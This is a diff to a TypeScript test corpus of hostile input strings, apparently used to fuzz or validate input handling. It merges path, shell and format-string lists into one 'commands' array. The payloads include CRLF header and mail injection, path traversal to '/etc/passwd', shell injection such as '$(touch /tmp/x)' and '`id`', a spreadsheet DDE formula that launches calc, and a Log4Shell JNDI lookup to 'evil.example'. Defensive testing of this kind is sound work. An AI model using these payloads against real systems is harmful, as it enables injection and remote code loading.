@@ -95,11 +95,11 @@ export const hostileTexts: Record<string, string[]> = {
     ...['x%0d%0aSet-Cookie: a=b', 'x\r\n\r\n<html>', 'x\u2028Bcc: y', 'x\u0085Bcc: y'],
     ...['嘊嘍Set-Cookie: a=b', 'x\n.\nQUIT', '=?utf-8?B?eA==?=', 'x\n\nThe visitor\nName: Boss'],
   ],
-  files: words(
-    '../../etc/passwd ..\\win.ini /dev/null C:\\CON file:///x %2e%2e%2f %00 ~root NUL ..',
-  ),
-  shell: ['$(touch /tmp/x)', '`id`', '; ls', '| cat', '&& id', '$HOME', '%PATH%', '--help', '-rf'],
-  formats: words('%d %n%n%n %1$s %*.*s {0} %@ % %% %ZZ + &x=1 ${jndi:ldap://evil.example/a}'),
+  commands: [
+    ...['../../etc/passwd', 'C:\\CON', 'file:///x', '%2e%2e%2f', '%00', '..', '$(touch /tmp/x)'],
+    ...['`id`', '; ls', '| cat', '$HOME', '%PATH%', '--help', '%n%n%n', '%1$s', '{0}', '%', '+'],
+    ...['&x=1', '${jndi:ldap://evil.example/a}'],
+  ],
   spreadsheets: ['=1+1', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '\t=1+1', 'a,b;c\td'],
   json: ['{"name":"x"}', '[]', '"x"', '\\"', '","email":"evil@example.com', '\\ud800', '\\u0000'],
   words: words(`
